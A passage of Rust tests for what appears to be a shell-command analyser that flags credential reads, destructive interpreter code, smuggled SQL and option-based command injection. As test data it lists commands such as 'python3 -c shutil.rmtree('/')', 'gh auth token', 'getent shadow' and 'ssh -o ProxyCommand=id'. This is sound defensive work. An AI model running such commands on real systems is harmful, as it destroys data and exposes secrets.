            }
        }
    }
    read
}

/// Skips to just after the next `delimiter` not escaped by a backslash
fn skip_delimited(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, delimiter: char) {
    while let Some(ch) = chars.next() {
        if ch == '\\' {
            chars.next();
        } else if ch == delimiter {
            return;
        }
    }
}

/// The commands of a crontab table: each line's text after its five time fields (or after
/// `@reboot`, `@daily`, ...), comments, blank lines and `NAME=value` lines left out
pub(crate) fn crontab_commands(table: &str) -> Vec<&str> {
    table
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .filter(|line| {
            let first = line.split_whitespace().next().unwrap_or_default();
            !first.contains('=') || first.starts_with('@')
        })
        .filter_map(|line| {
            let fields = if line.starts_with('@') { 1 } else { 5 };
            let mut rest = line;
            for _ in 0..fields {
                rest = rest.trim_start();
                rest = rest.get(rest.find(char::is_whitespace)?..)?;
            }
            Some(rest.trim())
        })
        .filter(|command| !command.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {

    /// bash(1), Compound Commands: "`while list-1; do list-2; done` … executes the list
    /// list-2 as long as the last command in the list list-1 returns an exit status of zero.
    /// The until command is identical to the while command, except that the test is negated"
    /// seq(1): "seq [OPTION]... LAST", "FIRST LAST", "FIRST INCREMENT LAST"; bash(1), Brace
    /// Expansion: "{x..y} … the expression expands to each number between x and y, inclusive"
    /// proc(5): "/proc/pid/environ This file contains the initial environment…",
    /// "/proc/pid/mem This file can be used to access the pages of a process's memory"; the
    /// same files are under `/proc/pid/task/tid/`
    #[test]
    fn a_process_file_is_known_whatever_the_process() {
        assert_eq!(process_file("/proc/", "/mem"), Some("/proc/self/mem"));
        assert_eq!(
            process_file("/proc/", "/environ"),
            Some("/proc/self/environ")
        );
        assert_eq!(
            process_file("/proc/1/task/", "/mem"),
            Some("/proc/self/mem")
        );
        assert_eq!(process_file("if=/proc/", "/mem"), Some("/proc/self/mem"));
        assert_eq!(
            process_file("@/proc/", "/environ"),
            Some("/proc/self/environ")
        );
        for (prefix, suffix) in [
            ("/proc/", "/status"),
            ("/proc/", "mem"),
            ("/home/u/proc/", "/mem"),
            ("x/proc/", "/environ"),
            ("/tmp/", "/mem"),
        ] {
            assert_eq!(process_file(prefix, suffix), None, "{prefix}…{suffix}");
        }
    }

    #[test]
    fn a_for_loop_counts_the_turns_seq_and_ranges_give() {
        assert_eq!(counted_turns("$(seq 100000)"), 100_000);
        assert_eq!(counted_turns("$(seq 1 100000)"), 100_000);
        assert_eq!(counted_turns("$(seq 0 10 100)"), 11);
        assert_eq!(counted_turns("{1..100000}"), 100_000);
        assert_eq!(counted_turns("{10..1}"), 10);
        for word in [
            "$(seq $(nproc))",
            "*.png",
            "$(ls)",
            "{a..z}",
            "$(seq 1 0 5)",
        ] {
            assert_eq!(counted_turns(word), 1, "{word}");
        }
    }

    #[test]
    fn loops_whose_condition_never_changes_never_end() {
        for condition in [
            ":",
            "true",
            "/bin/true",
            "[ 1 ]",
            "((1))",
            "sleep 1",
            "sleep 0.5",
        ] {
            assert!(never_ends(condition, false), "while {condition}");
            assert!(!never_ends(condition, true), "until {condition}");
        }
        for condition in ["false", "! true"] {
            assert!(never_ends(condition, true), "until {condition}");
            assert!(!never_ends(condition, false), "while {condition}");
        }
        assert!(
            never_ends("sleep $T", false),
            "a time known at run time still passes"
        );
        for condition in ["read f", "[ $i -lt 4 ]", "pgrep app"] {
            assert!(!never_ends(condition, false), "while {condition}");
            assert!(!never_ends(condition, true), "until {condition}");
        }
    }

    /// bash(1), Shell Variables: "BASH_ALIASES … Elements added to this array appear in
    /// the alias list"; "BASH_CMDS … Elements added to this array appear in the hash table"
    /// printenv(1): "Print the values of the specified environment VARIABLE(s). If no
    /// VARIABLE is specified, print name and value pairs for them all"; env(1): "If no
    /// COMMAND, print the resulting environment", and `-i` starts with an empty one
    #[test]
    fn environment_printers_print_a_credential_or_every_variable() {
        let prints = |program: &str, args: &str| {
            let args = words(args);
            let runs = program == "env" && args.iter().any(|arg| arg == "make");
            prints_environment_secret(program, &args, runs, |name| name == "LOCAL_TOKEN")
        };
        assert!(prints("printenv", "GITHUB_TOKEN"));
        assert!(prints("printenv", ""));
        assert!(prints("printenv", "HOME AWS_SECRET_ACCESS_KEY"));
        assert!(!prints("printenv", "HOME PATH"));
        assert!(!prints("printenv", "LOCAL_TOKEN"));
        assert!(prints("env", ""));
        assert!(prints("env", "-0 A=1"));
        assert!(!prints("env", "-i"));
        assert!(!prints("env", "A=1 make"));
        assert!(!prints("ls", ""));
    }

    /// seq(1): "-f, --format=FORMAT use printf style floating-point FORMAT", "-s,
    /// --separator=STRING"; jot(1): `-b word`, `-w word`, `-c` characters, `-s string`;
    /// nproc(1) prints one number; wc(1): "Print newline, word, and byte counts for each
    /// FILE" (and its name); date(1): `%s` seconds since the Epoch
    #[test]
    fn number_printers_print_numbers_unless_told_to_print_text() {
        let prints = |program: &str, args: &str| prints_only_numbers(program, &words(args));
        assert!(prints("seq", "1 5"));
        assert!(prints("seq", "-w -5 1.5 10"));
        assert!(!prints("seq", "-f rm%g 1 5"));
        assert!(!prints("seq", "--separator=; 1 5"));
        assert!(!prints("seq", "-ws x 1 5"));
        assert!(prints("jot", "5 1"));
        assert!(!prints("jot", "-b rm 5"));
        assert!(prints("nproc", ""));
        assert!(prints("wc", "-l"));
        assert!(!prints("wc", "-l notes.txt"));
        assert!(!prints("wc", "--files0-from=list"));
        assert!(prints("date", "+%s"));
        assert!(!prints("date", ""));
        assert!(!prints("date", "+%A"));
        assert!(!prints("cat", ""));
    }

    #[test]
    fn bash_tables_of_names_are_its_aliases_and_its_hash_table() {
        assert_eq!(name_table("BASH_ALIASES"), Some(NameTable::Aliases));
        assert_eq!(name_table("BASH_CMDS"), Some(NameTable::Hashed));
        assert_eq!(name_table("BASH_ARGV"), None);
    }
    use super::*;

    #[test]
    fn a_subcommand_is_named_as_its_program_resolves_it() {
        // npm's `deref` (lib/utils/cmd-list.js) and RubyGems' `find_command`, case by case.
        for (program, word, command) in [
            ("npm", "publish", "publish"),
            ("npm", "publ", "publish"),
            ("npm", "pu", "publish"),
            ("npm", "unp", "unpublish"),
            ("npm", "i", "install"),
            ("npm", "insta", "install"),
            ("npm", "install-cl", "ci"),
            ("npm", "run-s", "run"),
            ("npm", "un", "uninstall"),
            ("npm", "p", "p"),
            ("npm", "in", "install"),
            ("gem", "pu", "push"),
            ("gem", "p", "p"),
            ("gem", "ya", "yank"),
            ("yarn", "pu", "pu"),
        ] {
            assert_eq!(command_name(program, word), command, "{program} {word}");
        }
    }

    /// The text each client reads, as bash hands it over: bash(1), Here Strings: "The word
    /// undergoes ... quote removal ... The result is supplied as a single string, with a
    /// newline appended"; QUOTING: `$'…'` decodes `\n` and `\xHH`; Here Documents: with a
    /// quoted delimiter "the lines in the here-document are not expanded"
    #[test]
    fn a_statement_client_reads_its_literal_input_as_text() {
        let input = |line: &str| match crate::read(line, &crate::Context::default()) {
            crate::Reading::Read(script) => {
                let client = script
                    .commands
                    .last()
                    .map(|client| client.stdin_from.clone());
                client
                    .unwrap_or_default()
                    .iter()
                    .filter_map(|at| script.commands.get(*at))
                    .filter(|command| command.program == "echo")
                    .flat_map(|command| command.args.clone())
                    .collect::<Vec<_>>()
            }
            crate::Reading::Unreadable(why) => panic!("{line}: {why:?}"),
        };
        for client in STATEMENT_CLIENTS {
            assert_eq!(
                input(&format!("{client} <<< $'.tables\\ndrop table t;'")),
                [".tables\ndrop table t;"],
                "{client}"
            );
        }
        assert_eq!(
            input("psql <<< \"select 1\"'; '$'\\x44ROP TABLE t'"),
            ["select 1; DROP TABLE t"]
        );
        assert_eq!(
            input("psql -d app <<'SQL'\nDELETE FROM t;\nSQL"),
            ["DELETE FROM t;\n"]
        );
        assert_eq!(
            input("printf 'a;\\ndrop table t;' | sqlite3 x.db"),
            ["a;\ndrop table t;"]
        );
        assert_eq!(
            input("sudo -u postgres psql <<< 'drop table t'"),
            ["drop table t"]
        );
        // A text only known at run time is no text, and other programs read no statements.
        assert!(input("psql <<< \"$(cat q.sql)\"").is_empty());
        assert!(input("cat <<< 'drop table t'").is_empty());
    }

    #[test]
    fn a_secret_printer_reads_its_store() {
        let read = |line: &str| {
            let context = crate::Context::default();
            match crate::read(line, &context) {
                crate::Reading::Read(script) => script
                    .commands
                    .iter()
                    .flat_map(secret_stores)
                    .collect::<Vec<_>>(),
                crate::Reading::Unreadable(why) => panic!("{line}: {why:?}"),
            }
        };
        for (line, store) in [
            (
                "gpg -a --export-secret-keys me",
                "~/.gnupg/private-keys-v1.d",
            ),
            (
                "gpg --armor --export-secret-key me",
                "~/.gnupg/private-keys-v1.d",
            ),
            ("gh auth status --show-tok", "~/.config/gh/hosts.yml"),
            ("gh auth token", "~/.config/gh/hosts.yml"),
            (
                "npm config get //registry.npmjs.org/:_authToken",
                "~/.npmrc",
            ),
            ("yarn config get npmAuthToken", "~/.npmrc"),
            ("pnpm config get //r.example/:_password", "~/.npmrc"),
            ("gh auth status -t", "~/.config/gh/hosts.yml"),
            (
                "aws --profile p configure export-credentials",
                "~/.aws/credentials",
            ),
            (
                "aws configure get aws_secret_access_key",
                "~/.aws/credentials",
            ),
            ("git credential fill", "~/.git-credentials"),
            ("git-credential-store get", "~/.git-credentials"),
            ("docker-credential-pass get", "~/.docker/config.json"),
            (
                "gcloud auth application-default print-access-token",
                "~/.config/gcloud/credentials.db",
            ),
            ("kubectl config view --raw", "~/.kube/config"),
            ("kubectl create token default", "~/.kube/config"),
            ("pass show db/prod", "~/.password-store"),
            ("pass db/prod", "~/.password-store"),
            ("gopass show -o aws/prod", "~/.password-store"),
            ("gopass aws/prod", "~/.password-store"),
            ("getent shadow", "/etc/shadow"),
            (
                "gpg --batch --decrypt s.tfvars.gpg",
                "~/.gnupg/private-keys-v1.d",
            ),
            ("gpg -q -d notes.gpg", "~/.gnupg/private-keys-v1.d"),
            ("getent gshadow root", "/etc/shadow"),
            ("vault kv get secret/x", "~/.vault-token"),
            (
                "security find-generic-password -s x -w",
                "~/Library/Keychains/login.keychain-db",
            ),
            (
                "secret-tool lookup service x",
                "~/.local/share/keyrings/login.keyring",
            ),
            (
                "secret-tool search --all service x",
                "~/.local/share/keyrings/login.keyring",
            ),
            ("op document get key", "~/.config/op/config"),
            (
                "bw get password github",
                "~/.config/Bitwarden CLI/data.json",
            ),
            (
                "bw export --format json",
                "~/.config/Bitwarden CLI/data.json",
            ),
            (
                "security dump-keychain -d login.keychain",
                "~/Library/Keychains/login.keychain-db",
            ),
            (
                "kwallet-query -r github kdewallet",
                "~/.local/share/kwalletd/kdewallet.kwl",
            ),
            (
                "bw list items --search github",
                "~/.config/Bitwarden CLI/data.json",
            ),
            ("pbpaste", "/dev/clipboard"),
            ("xclip -o -selection clipboard", "/dev/clipboard"),
            ("import -window root /tmp/s.png", "/dev/fb0"),
            ("ffmpeg -f x11grab -i :0 r.mp4", "/dev/fb0"),
            ("ffmpeg -f alsa -i default a.wav", "/dev/snd/pcmC0D0c"),
            ("xinput test-xi2 --root", "/dev/input/event0"),
            ("sops -d secrets.enc.yaml", "~/.config/sops/age/keys.txt"),
            ("sops --decrypt s.json", "~/.config/sops/age/keys.txt"),
            ("sops decrypt s.json", "~/.config/sops/age/keys.txt"),
            (
                "aws secretsmanager get-secret-value --secret-id db",
                "~/.aws/credentials",
            ),
            (
                "aws ssm get-parameters-by-path --path / --with-decryption",
                "~/.aws/credentials",
            ),
            (
                "gcloud secrets versions access latest --secret=db",
                "~/.config/gcloud/credentials.db",
            ),
            (
                "az keyvault secret show --name db --vault-name v",
                "~/.azure/msal_token_cache.json",
            ),
            (
                "git config --get http.https://github.com/.extraheader",
                "~/.git-credentials",
            ),
            ("git config -l", "~/.git-credentials"),
        ] {
            assert_eq!(read(line), [store], "{line}");
        }
        for line in [
            "gpg --export me",
            "gh auth status",
            "aws configure get region",
            "npm config get registry",
            "kubectl config view --minify",
            "pass ls",
            "pass",
            "git credential approve",
            "security find-generic-password -s x",
            "sops -e secrets.yaml",
            "aws ssm get-parameter --name region",
            "aws secretsmanager list-secrets",
            "gcloud secrets list",
            "bw list folders",
            "git config --get user.email",
            "xclip -selection clipboard",
            "ffmpeg -i in.mp4 out.webm",
            "import -window main.png",
            "git config credential.helper store",
            "gopass ls",
            "gpg --verify x.sig x",
            "gpg -e -r me notes.txt",
            "gopass insert a/b",
            "getent passwd dev",
            "getent hosts example.com",
        ] {
            assert!(read(line).is_empty(), "{line}");
        }
    }

    fn words(line: &str) -> Vec<String> {
        line.split_whitespace().map(str::to_owned).collect()
    }

    #[test]
    fn every_interpreter_row_finds_its_code_and_judges_it() {
        // One line per row: the program, its words, the code it runs, and whether bash would
        // have it run something it cannot see; code of a language the reader does not read
        // (Lua, Tcl, R, Julia and the others) may run anything, whatever its words.
        let cases = [
            ("irb", "x.rb", None),
            ("bpftrace", "-e BEGIN{system(\"id\")}", Some(true)),
            ("bpftrace", "-l tracepoint:*", None),
            ("jshell", "x.jsh", None),
            ("python3", "-c import_shutil;shutil.rmtree('/')", Some(true)),
            ("python3", "-c import(", Some(false)),
            ("python3.12", "-c print(1)", Some(false)),
            ("pypy3", "-c __import__('os').system('id')", Some(true)),
            ("node", "-e require('fs').rmSync('/')", Some(true)),
            ("node", "-e console.log(process.version)", Some(false)),
            ("deno", "eval Deno.removeSync('/')", Some(true)),
            ("bun", "--eval console.log(1)", Some(false)),
            ("perl", "-e system('id')", Some(true)),
            ("perl", "-ne print", Some(false)),
            ("perl", "-lne system('id')", Some(true)),
            ("python3", "-Bc __import__('os').system('id')", Some(true)),
            ("python3", "-W c -c print(1)", Some(false)),
            ("ruby", "-e FileUtils.rm_rf('/')", Some(true)),
            ("php", "-r echo(1);", Some(false)),
            ("lua", "-e os.execute('id')", Some(true)),
            ("luajit", "-e os.execute('id')", Some(true)),
            ("awk", "BEGIN{system(\"id\")}", Some(true)),
            ("gawk", "-F: {print}", Some(false)),
            ("mawk", "{print|\"sh\"}", Some(true)),
            ("nawk", "-f prog.awk", None),
            ("gawk", "-f /dev/null -e BEGIN{system(\"id\")}", Some(true)),
            ("awk", "--source BEGIN{system(\"id\")}", Some(true)),
            ("awk", "-Fe -v x=1 BEGIN{system(\"id\")}", Some(true)),
            ("awk", "-e {print} data.csv", Some(false)),
            ("gawk", "-i inplace BEGIN{system(\"id\")} f", Some(true)),
            (
                "gawk",
                "--include=inplace BEGIN{system(\"id\")} f",
                Some(true),
            ),
            (
                "gawk",
                "-l ext -v x=1 -F: BEGIN{system(\"id\")}",
                Some(true),
            ),
            ("mawk", "-W interactive BEGIN{system(\"id\")}", Some(true)),
            ("gawk", "--new-option x BEGIN{system(\"id\")}", Some(true)),
            ("gawk", "-E prog.awk BEGIN{system(\"id\")}", None),
            ("gawk", "--posix -F: {print} f", Some(false)),
            ("tclsh8.6", "x.tcl", None),
            ("expect", "-c spawn_rm", Some(true)),
            ("expect", "-c puts_hi", Some(true)),
            ("Rscript", "-e unlink('~',recursive=TRUE)", Some(true)),
            ("Rscript", "-e print(1)", Some(false)),
            ("pwsh", "-Command Remove-Item_-Recurse_~", Some(true)),
            (
                "pwsh",
                "-ConfigurationName x -Command Get-Date",
                Some(false),
            ),
            ("powershell", "-c iex_$env:X", Some(true)),
            ("ipython", "-c !id", Some(true)),
            ("ipython3", "-c print(1)", Some(true)),
            ("julia", "-e rm(homedir(),recursive=true)", Some(true)),
            ("julia", "-e println(1)", Some(false)),
            ("julia", "-e run(`id`)", Some(true)),
            ("julia", "-e Pkg.test()", Some(true)),
            ("julia", "-e Base.Filesystem.rm(\"x\")", Some(true)),
            ("lua", "-e print(2^10)", Some(false)),
            ("lua", "-e os.execute(\"id\")", Some(true)),
            ("lua", "-e _G[\"o\"..\"s\"].remove(\"x\")", Some(true)),
            ("lua", "-e load(\"x\")()", Some(true)),
            (
                "Rscript",
                "-e summary(read.csv(\"data/a.csv\"))",
                Some(false),
            ),
            ("Rscript", "-e system(\"id\")", Some(true)),
            ("Rscript", "-e unlink(\"~\",recursive=TRUE)", Some(true)),
            (
                "Rscript",
                "-e do.call(paste0(\"sys\",\"tem\"),list(\"id\"))",
                Some(true),
            ),
            ("Rscript", "-e processx::run(\"id\")", Some(true)),
            ("osascript", "-e doShellScript('id')", Some(true)),
            ("osascript", "-e beep", Some(false)),
            (
                "elixir",
                "-e System.cmd(\"rm\",[\"-rf\",\"/\"])",
                Some(true),
            ),
            ("guile", "-c (system\"id\")", Some(true)),
            ("racket", "-e (system\"id\")", Some(true)),
            (
                "sbcl",
                "--eval (sb-ext:run-program\"/bin/id\"())",
                Some(true),
            ),
            ("clisp", "-x (ext:shell\"id\")", Some(true)),
            ("ecl", "-eval (si:system\"id\")", Some(true)),
            ("ghc", "-e System.Process.callCommand\"id\"", Some(true)),
            ("scala", "-e sys.process.Process(\"id\").!", Some(true)),
            ("kotlin", "-e Runtime.getRuntime().exec(\"id\")", Some(true)),
            ("bb", "-e (shell/sh\"id\")", Some(true)),
            ("raku", "-e shell(\"id\")", Some(true)),
            ("ghc", "Main.hs", None),
            ("octave", "--eval disp(1+1)", Some(true)),
            ("groovy", "-e println(1)", Some(true)),
            ("emacs", "--batch --eval (shell-command\"id\")", Some(true)),
            ("emacsclient", "--eval (shell-command\"id\")", Some(true)),
            ("emacsclient", "-e (shell-command\"id\")", Some(true)),
            ("dc", "-e !id", Some(true)),
        ];
        for (program, line, expected) in cases {
            let row = interpreter(program).unwrap_or_else(|| panic!("{program} is no interpreter"));
            let args = words(line);
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
            let codes = inline_code(row, &args);
            let judged = (!codes.is_empty()).then(|| {
                codes.iter().any(|code| {
                    !crate::inline::effects(row.lang, program, code, deadline).is_empty()
                })
            });
            assert_eq!(judged, expected, "{program} {line}");
        }
        // AppleScript's words hold blanks, which `words` would split.
        let osascript = interpreter("osascript").map(|row| row.lang);
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
        let code = "do shell script \"rm -rf ~\"";
        assert!(osascript.is_some_and(|lang| !crate::inline::effects(
            lang,
            "osascript",
            code,
            deadline
        )
        .is_empty()));
        assert!(INTERPRETERS
            .iter()
            .all(|row| interpreter(row.name).is_some()));
        assert!(interpreter("pythonista").is_none());
    }

    #[test]
    fn every_program_kind_holds_for_its_programs_and_no_other() {
        // One line per row: programs of the kind, and programs that are not, from what each
        // program does (its manual), not from the table.
        let rows: [(&str, &[&str], &[&str]); 8] = [
            (
                "shell",
                &["sh", "bash", "zsh", "dash", "fish", "ksh"],
                &["python3", "ssh", "shellcheck"],
            ),
            (
                "interpreter",
                &[
                    "python3",
                    "python3.12",
                    "pypy3",
                    "node",
                    "perl",
                    "ruby",
                    "php8.2",
                    "lua5.4",
                    "awk",
                    "deno",
                    "bun",
                    "tsx",
                    "ts-node",
                    "erl",
                    "m4",
                ],
                &["bash", "pythonista", "nodemon", "git"],
            ),
            (
                "download",
                &["curl", "wget", "nc", "socat", "aria2c"],
                &["git", "ssh", "scp"],
            ),
            ("stdin_runner", &["at", "batch"], &["cron", "atq"]),
            (
                "privilege",
                &[
                    "sudo", "su", "doas", "pkexec", "run0", "sudoedit", "please", "ksu", "runuser",
                    "pbrun", "dzdo", "pfexec", "calife", "super", "gosu", "su-exec",
                ],
                &["sudoku", "env", "pleased"],
            ),
            (
                "disk_formatter",
                &[
                    "mkfs",
                    "mkfs.ext4",
                    "mkfs.vfat",
                    "mke2fs",
                    "mkswap",
                    "wipefs",
                    "blkdiscard",
                    "pvcreate",
                    "lvremove",
                ],
                &["mkfsx", "mkdir", "fdisk"],
            ),
            (
                "archiver",
                &["tar", "bsdtar", "zip", "7zz", "gpgtar"],
                &["unzip", "gzip", "tarball"],
            ),
            (
                "printer",
                &[
                    "cat", "head", "less", "grep", "base64", "xxd", "jq", "echo", "tee",
                ],
                &["cp", "curl", "gzip", "wc"],
            ),
        ];
        for (name, members, others) in rows {
            let kind = program_kind(name).unwrap_or_else(|| panic!("no kind {name}"));
            for program in members {
                assert!(kind.holds(program), "{program} is a {name}");
            }
            for program in others {
                assert!(!kind.holds(program), "{program} is no {name}");
            }
        }
        assert_eq!(PROGRAM_KINDS.len(), rows.len());
        assert!(program_kind("editor").is_none());
    }

    #[test]
    fn git_runs_hooks_from_the_folders_its_settings_name() {
        // githooks(5): hooks run from `core.hooksPath`; git-init(1), TEMPLATE DIRECTORY:
        // the template's `hooks` are copied into the new repository.
        assert_eq!(
            git_hook_folder("core.hooksPath", "/tmp/h/").as_deref(),
            Some("/tmp/h")
        );
        assert_eq!(
            git_hook_folder("init.templateDir", "/tmp/t").as_deref(),
            Some("/tmp/t/hooks")
        );
        assert_eq!(git_hook_folder("core.pager", "less"), None);
        let words = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<_>>();
        let args = words("clone --template=/tmp/t https://x.example/r");
        assert_eq!(git_template(Some("clone"), &args), Some("/tmp/t"));
        let args = words("init -q --template /tmp/t r");
        assert_eq!(git_template(Some("init"), &args), Some("/tmp/t"));
        let args = words("log --template=/tmp/t");
        assert_eq!(git_template(Some("log"), &args), None);
    }

    #[test]
    fn package_managers_run_the_script_shell_of_their_environment() {
        for (name, program) in [
            ("npm_config_script_shell", "npm"),
            ("NPM_CONFIG_SCRIPT_SHELL", "pnpm"),
            ("npm_config_script_shell", "yarn"),
        ] {
            assert!(
                command_variables(program).any(|row| row.name == name && row.program),
                "{name} {program}"
            );
        }
        assert!(!command_variables("cargo").any(|row| row.name.starts_with("npm_")));
    }

    /// script(1): "-c, --command command: Run the command rather than an interactive
    /// shell", the shell being `$SHELL`; tmux(1) `default-shell`: "the default is the value
    /// of the SHELL environment variable"; sudo(8) `-s`: "Run the shell specified by the
    /// SHELL environment variable"; make(1) never takes `SHELL` from the environment
    #[test]
    fn programs_that_start_a_shell_run_the_one_shell_names() {
        for program in ["script", "screen", "tmux", "vim", "less", "flock", "sudo"] {
            assert!(
                command_variables(program).any(|row| row.name == "SHELL" && row.program),
                "{program}"
            );
        }
        assert!(!command_variables("make").any(|row| row.name == "SHELL"));
    }

    #[test]
    fn a_name_or_folder_is_found_where_its_spelled_form_is() {
        let paths = [
            "",
            "/",
            ".ssh",
            ".ssh/",
            "/.ssh",
            "a.ssh",
            "a/.ssh",
            "a/.ssh/id",
            ".env",
            "x.env",
            "/x/.env",
            "//.env",
            ".ssh/.ssh",
            "a/.s/.ssh",
            "/.aws/.aws/",
            "é/.ssh",
            ".ssh/é",
        ];
        let parts = [".ssh", ".env", ".aws/", "/", "", "a/.s", "é"];
        for path in paths {
            for part in parts {
                let spelled_named = path == part || path.ends_with(&format!("/{part}"));
                let spelled_below = path.starts_with(part) || path.contains(&format!("/{part}"));
                assert_eq!(
                    is_named(path, part),
                    spelled_named,
                    "{path:?} named {part:?}"
                );
                assert_eq!(
                    is_below(path, part),
                    spelled_below,
                    "{path:?} below {part:?}"
                );
            }
        }
    }

    proptest::proptest! {
        /// The filter on a component's first byte only skips rows that cannot be found
        #[test]
        fn the_first_byte_filter_keeps_every_secret(
            parts in proptest::collection::vec(
                proptest::sample::select(vec![
                    "", "/", "home", "u", ".ssh", "id_rsa", ".pub", ".env", "Library",
                    "Keychains", ".config", "gh", "hosts.yml", ".aws", "credentials", "x.",
                    "é", "proc", "1", "environ", ".", "..", "L",
                ]),
                0..8,
            ),
            slashes in proptest::collection::vec(proptest::bool::ANY, 8),
        ) {
            let mut path = String::new();
            for (part, slash) in parts.iter().zip(&slashes) {
                path.push_str(part);
                if *slash {
                    path.push('/');
                }
            }
            let unfiltered = (path.starts_with("/proc/") && path.ends_with("/environ"))
                || SECRET_FILES.iter().any(|name| is_named(&path, name))
                || (!path.ends_with(".pub")
                    && SECRET_FOLDERS.iter().any(|folder| is_below(&path, folder)));
            proptest::prop_assert_eq!(is_secret_path(&path), unfiltered, "{:?}", path);
        }
    }

    #[test]
    fn secrets_are_the_files_and_folders_of_the_tables() {
        for folder in SECRET_FOLDERS {
            assert!(is_secret_path(&format!("/home/u/{folder}x")), "{folder}");
            assert!(
                !is_secret_path(&format!("/home/u/{folder}x.pub")),
                "{folder}"
            );
        }
        for file in SECRET_FILES {
            assert!(is_secret_path(&format!("/home/u/{file}")), "{file}");
        }
        assert!(MODE_CHANGERS.iter().all(|program| !is_deleter(program)));
        assert!(is_secret_path("/proc/self/environ"));
        assert!(is_secret_path("/proc/$PPID/environ"));
        for path in [
            "/home/u/project/README.md",
            "/tmp/k.gpg",
            "/proc/self/status",
        ] {
            assert!(!is_secret_path(path), "{path}");
        }
    }

    #[test]
    fn a_unique_prefix_is_the_option_it_abbreviates() {
        assert_eq!(full_option("rm", "rec"), "recursive");
        assert_eq!(full_option("rm", "f"), "force");
        assert_eq!(full_option("rm", "no-p"), "no-preserve-root");
        assert_eq!(full_option("rm", "p"), "preserve-root");
        assert_eq!(full_option("rm", "ver"), "ver");
        assert_eq!(full_option("chmod", "rec"), "recursive");
        assert_eq!(full_option("git", "ha"), "hard");
        assert_eq!(full_option("git", "forc"), "forc");
        assert_eq!(full_option("git", "force"), "force");
        assert_eq!(full_option("shred", "rem"), "remove");
        assert_eq!(full_option("ls", "rec"), "rec");
        // GNU tar 1.34 takes exactly these prefixes of the options that run a command, and
        // refuses the shorter ones as ambiguous (`--to` is also `--to-stdout`).
        let runs_commands = [
            ("to-command", "to-c"),
            ("checkpoint-action", "checkpoint-"),
            ("use-compress-program", "use"),
            ("info-script", "inf"),
            ("new-volume-script", "new-"),
            ("rsh-command", "rs"),
        ];
        for (option, shortest) in runs_commands {
            for end in 1..=option.len() {
                let prefix = option.get(..end).unwrap_or_default();
                let expected = if end >= shortest.len() {
                    option
                } else {
                    prefix
                };
                assert_eq!(full_option("tar", prefix), expected, "{prefix}");
            }
        }
    }

    #[test]
    fn programs_run_the_scripts_their_options_name() {
        let cases = [
            ("tar", "-cf a --checkpoint-action=exec=id", vec!["id"]),
            ("tar", "--to-command=id -xf a", vec!["id"]),
            ("tar", "-I zstd -cf a", vec!["zstd"]),
            // GNU tar's manual: `--rsh-command=CMD` is run in place of rsh for a remote
            // archive, `-F`/`--info-script` and `--new-volume-script` at each volume's end.
            ("tar", "cf h:/a x --rsh-command=/tmp/r", vec!["/tmp/r"]),
            ("tar", "-c -F ./next -f a x", vec!["./next"]),
            ("tar", "-cf a --new-volume-script=./next x", vec!["./next"]),
            ("tar", "--use-compress-program=./z -cf a x", vec!["./z"]),
            // getopt_long: a unique prefix of a long option is that option.
            ("tar", "--to-comm=id -xf a", vec!["id"]),
            ("tar", "-xf a --to-c id", vec!["id"]),
            ("gtar", "-cf a --checkpoint-a=exec=id x", vec!["id"]),
            ("tar", "--use ./z -cf a x", vec!["./z"]),
            ("tar", "--to=id -xf a", vec![]),
            ("tar", "--new=./next -cf a x", vec![]),
            // npm-config(7) `script-shell`: the shell `npm run` runs scripts with.
            ("npm", "--script-shell=/tmp/s test", vec!["/tmp/s"]),
            ("pnpm", "--script-shell /tmp/s run build", vec!["/tmp/s"]),
            ("npm", "run build -- --script x", vec![]),
            (
                "npm",
                "config set script-shell /tmp/s",
                vec!["unknown: `script-shell` makes the package manager run `/tmp/s` from now on, and what it runs is only known then"],
            ),
            (
                "yarn",
                "config set script-shell=./s",
                vec!["unknown: `script-shell` makes the package manager run `./s` from now on, and what it runs is only known then"],
            ),
            ("pnpm", "config set --global script-shell bash", vec!["'bash'"]),
            ("npm", "config set script-shell=/usr/bin/zsh", vec!["'/usr/bin/zsh'"]),
            ("npm", "config set registry https://r.example", vec![]),
            ("npm", "config get script-shell", vec![]),
            (
                "yarn",
                "config set scriptShell /tmp/s",
                vec!["unknown: `scriptShell` makes the package manager run `/tmp/s` from now on, and what it runs is only known then"],
            ),
            ("nmap", "--script=/tmp/x.nse 127.0.0.1", vec!["/tmp/x.nse"]),
            ("nmap", "--script default -sV h", vec!["default"]),
            ("split", "--filter=gzip -b 1M big", vec!["gzip"]),
            ("split", "-b 1M --filter id big", vec!["id"]),
            ("ssh", "-o ProxyCommand=id host", vec!["id"]),
            ("ssh", "-o KnownHostsCommand=id host", vec!["id"]),
            ("scp", "-oLocalCommand=id a b", vec!["id"]),
            ("ssh", "-o Port=22 host", vec![]),
            ("scp", "-S ./s a h:", vec!["./s"]),
            ("sftp", "-S ./s h", vec!["./s"]),
            ("ssh", "-S ctl h", vec![]),
            ("rsync", "-e ssh a b", vec!["ssh"]),
            ("rsync", "--rsync-path=id a b", vec!["id"]),
            ("script", "-c id /dev/null", vec!["id"]),
            ("flock", "/tmp/l -c id", vec!["id"]),
            ("sg", "wheel -c id", vec!["id"]),
            ("zip", "-T -TT id a.zip x", vec!["id"]),
            ("strace", "-o |id true", vec!["id"]),
            ("strace", "-f -o!id true", vec!["id"]),
            ("strace", "--output=|id true", vec!["id"]),
            ("strace", "-o trace.log true", vec![]),
            ("ls", "-c x", vec![]),
            ("script", "-qc id /dev/null", vec!["id"]),
            ("script", "--command=id", vec!["id"]),
            ("git", "-c core.fsmonitor=id status", vec!["id"]),
            ("git", "-c credential.helper=!id fetch", vec!["id"]),
            ("git", "-c user.name=x commit", vec![]),
            ("git", "-c diff.pdf.textconv=id diff", vec!["id"]),
            ("git", "-c Filter.lfs.Smudge=id checkout", vec!["id"]),
            ("git", "-c pager.log=id log", vec!["id"]),
            ("git", "-c diff.textconv=id diff", vec![]),
            ("git", "-c sequence.editor=id rebase -i", vec!["id \"$@\""]),
            ("git", "-c core.editor=true commit", vec!["true \"$@\""]),
            ("git", "difftool -y -x id HEAD", vec!["id"]),
            ("git", "difftool --extcmd=id HEAD", vec!["id"]),
            ("git", "difftool -y HEAD", vec![]),
            ("git", "grep -Oid TODO", vec!["id"]),
